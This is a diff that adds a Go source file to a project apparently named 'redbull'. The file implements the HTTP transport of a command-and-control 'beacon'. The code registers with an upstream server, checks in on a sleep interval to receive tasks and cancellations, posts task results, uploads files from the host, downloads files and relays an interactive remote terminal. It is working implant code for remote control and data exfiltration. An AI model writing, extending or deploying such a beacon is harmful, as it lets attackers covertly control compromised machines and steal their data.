@@ -0,0 +1,100 @@
+package rbtransport
+
+import (
+	"encoding/json"
+	"errors"
+	"fmt"
+	"io"
+	"net/http"
+	"net/url"
+	"redbull/internal/rbhttp"
+)
+
+// HttpTransport speaks JSON over HTTP(S) to the server, using whichever
+// HttpClient the beacon was configured with.
+type HttpTransport struct {
+	Client   rbhttp.HttpClient
+	Upstream string
+}
+
+func NewHttpTransport(client rbhttp.HttpClient, upstream string) *HttpTransport {
+	return &HttpTransport{Client: client, Upstream: upstream}
+}
+
+func (t *HttpTransport) Register(req rbhttp.RegisterRequest) error {
+	_, err := rbhttp.Post[rbhttp.RegisterResponse](t.Client, fmt.Sprintf("%s/register", t.Upstream), req)
+	return err
+}
+
+func (t *HttpTransport) CheckIn(sessionID string, sleepTime int) (*rbhttp.CheckInResponse, error) {
+	checkInUrl := fmt.Sprintf("%s/?session=%s&sleep=%d", t.Upstream, url.QueryEscape(sessionID), sleepTime)
+	resp, err := rbhttp.Get[rbhttp.CheckInResponse](t.Client, checkInUrl)
+	if err != nil {
+		var statusErr *rbhttp.StatusError
+		if errors.As(err, &statusErr) && statusErr.StatusCode == http.StatusNotFound {
+			return nil, ErrUnknownSession
+		}
+		return nil, err
+	}
+
+	if resp == nil || (len(resp.Tasks) == 0 && len(resp.Cancel) == 0) {
+		return nil, nil
+	}
+	return resp, nil
+}
+
+func (t *HttpTransport) SendResults(results []rbhttp.HttpBody) error {
+	_, err := rbhttp.Post[any](t.Client, fmt.Sprintf("%s/results", t.Upstream), rbhttp.ResultsRequest{Results: results})
+	return err
+}
+
+func (t *HttpTransport) SendFile(sessionID string, body io.Reader) (string, error) {
+	downloadUrl := fmt.Sprintf("%s/download?session=%s", t.Upstream, url.QueryEscape(sessionID))
+	resp, err := t.Client.Post(downloadUrl, "application/octet-stream", body)
+	if err != nil {
+		return "", err
+	}
+	defer resp.Body.Close()
+
+	if resp.StatusCode != http.StatusOK {
+		return "", &rbhttp.StatusError{StatusCode: resp.StatusCode}
+	}
+
+	var saved rbhttp.FileSavedResponse
+	if err := json.NewDecoder(resp.Body).Decode(&saved); err != nil {
+		return "", err
+	}
+	return saved.Filename, nil
+}
+
+func (t *HttpTransport) FetchFile(name string) (io.ReadCloser, error) {
+	fileUrl := fmt.Sprintf("%s/files/%s", t.Upstream, url.PathEscape(name))
+	resp, err := t.Client.Get(fileUrl)
+	if err != nil {
+		return nil, err
+	}
+
+	if resp.StatusCode != http.StatusOK {
+		resp.Body.Close()
+		if resp.StatusCode == http.StatusNotFound {
+			return nil, ErrNotFound
+		}
+		return nil, &rbhttp.StatusError{StatusCode: resp.StatusCode}
+	}
+	return resp.Body, nil
+}
+
+func (t *HttpTransport) ExchangePty(sessionID string, output []rbhttp.PtyOutput) ([]rbhttp.PtyInput, error) {
+	resp, err := rbhttp.Post[rbhttp.PtyExchangeResponse](t.Client, fmt.Sprintf("%s/pty", t.Upstream), rbhttp.PtyExchangeRequest{SessionID: sessionID, Output: output})
+	if err != nil {
+		var statusErr *rbhttp.StatusError
+		if errors.As(err, &statusErr) && statusErr.StatusCode == http.StatusNotFound {
+			return nil, ErrUnknownSession
+		}
+		return nil, err
+	}
+	if resp == nil {
+		return nil, nil
+	}
+	return resp.Input, nil
+}